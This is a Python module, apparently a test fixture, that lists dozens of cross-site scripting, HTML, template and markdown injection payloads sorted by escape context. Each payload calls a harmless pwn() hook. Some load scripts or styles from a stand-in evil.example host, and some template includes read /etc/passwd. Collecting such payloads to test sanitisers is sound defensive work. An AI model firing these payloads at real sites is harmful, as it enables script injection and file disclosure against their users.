r"""What strangers write where words should be, so that it runs: all call ``pwn``, which a test listens to.

Each kind tries another way out of a place on a page: as a tag, as an attribute, as an address, as a
template, out of a tag that surrounds it, or as something that only a mistaken decoding turns into one.
"""

from __future__ import annotations

TAGS = (
    "<script>pwn()</script>",
    "<script src=data:text/javascript,pwn()></script>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>pwn()</script\n>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<<script>pwn();//<</script>",
    "<script>pwn()",
    "<iframe src=javascript:pwn()></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data='data:text/html,<script>parent.pwn()</script>'></object>",
    "<embed src=javascript:pwn()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>pwn()</script>'>",
    "<form action=javascript:pwn()><input type=submit></form>",
    "<x-y onclick=pwn()>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
)
EVENTS = (
    "<img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()//",
    "<img/src=x/onerror=pwn()>",
    "<img src=x oNeRrOr=pwn()>",
    "<img src=x onerror=`pwn()`>",
    "<svg onload=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<details open ontoggle=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<div style='animation:x' onanimationstart=pwn()>",
    "<p onmouseover=pwn() style='position:fixed;inset:0'>",
    "<button popovertarget=x>a</button><div popover id=x onbeforetoggle=pwn()>",
    "<a href=# onclick=pwn()>here</a>",
)
ATTRIBUTES = (
    '" onmouseover="pwn()',
    "' onmouseover='pwn()",
    '" autofocus onfocus="pwn()" x="',
    "' autofocus onfocus='pwn()' x='",
    '"><script>pwn()</script>',
    '"/><img src=x onerror=pwn()>',
    "`><script>pwn()</script>",
    '" style="background:url(javascript:pwn())',
    '" id="content" class="md-search',
    '" data-md-component="search" x="',
    '\\"><script>pwn()</script>',
)
ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "\x01javascript:pwn()",
    "javascript&colon;pwn()",
    "javascript://example.org/%0apwn()",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+pwn()//'>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "vbscript:pwn()",
    "view-source:javascript:pwn()",
    "//evil.example/pwn()",
    'https://example.org/" onclick="pwn()',
    "https://example.org/'><script>pwn()</script>",
)
FOREIGN = (
    "<svg><script>pwn()</script></svg>",
    "<svg><script>pwn&lpar;&rpar;</script>",
    "<svg><a xlink:href=javascript:pwn()><text x=9 y=9>here</text></a></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,pwn() />",
    "<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>",
    "<svg><title><style><img src=</style><img src=x onerror=pwn()>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn()&gt;'>",
    "<math><mi//xlink:href='data:x,<script>pwn()</script>'>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}<script>pwn()</script>{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{# <script>pwn()</script> #}",
    "{{ '<script>pwn()</script>' | safe }}",
    "${pwn()}",
    "<%= pwn() %>",
    "{{constructor.constructor('pwn()')()}}",
    "[here](javascript:pwn())",
    "![x](x){onerror=pwn()}",
    "[here]{: onclick=pwn() }",
    '![x"onerror="pwn()](x)',
    "[x]: javascript:pwn()\n\n[x]",
    "```html\n<script>pwn()</script>\n```",
    "# <script>pwn()</script> {#content}",
    '--8<-- "/etc/passwd"',
    '!!! note "<script>pwn()</script>"',
    "<!-- newest briefings -->",
    "<!-- seeds folder -->",
    "---\ntemplate: evil.html\n---",
    "$$\\href{javascript:pwn()}{x}$$",
)
OUT_OF = (
    "</title><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "</script><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</p></div></body></html><script>pwn()</script>",
    "--><script>pwn()</script><!--",
    "<!--><img src=x onerror=pwn()>-->",
    "<![CDATA[><script>pwn()</script>]]>",
    "</time><h1 id=briefing>pwn()</h1>",
    "<!-- ",
    "<table><td></section><img src=x onerror=pwn()>",
)
ENCODED = (
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#0000060script&#0000062pwn()",
    "&amp;lt;script&amp;gt;pwn()",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "＜script＞pwn()＜/script＞",
    "ʺ onmouseover=ʺpwn()",
    "<\u200bscript>pwn()</\u200bscript>",
    "\u202e<script>pwn()</script>\u202c",
    "\u2066\u202e\u2067 pwn() \ufeff",
    "\u2028<script>pwn()</script>\u2029",
    "e\u0301\u0301\u0301\u0301<b>pwn()",
)
STYLES = (
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>",
    "}*{display:none}/*",
    "*/}body{background:url(//evil.example/x)}",
    "<style>:target{}</style><a name=x>",
)
PAYLOADS = TAGS + EVENTS + ATTRIBUTES + ADDRESSES + FOREIGN + TEMPLATES + OUT_OF + ENCODED + STYLES


def printable(payload: str) -> str:
    """A payload as a file's name may hold it: no name of a file has a slash or a line's end."""
    return "".join(char if char.isprintable() and char not in "/\\" else "∕" for char in payload)
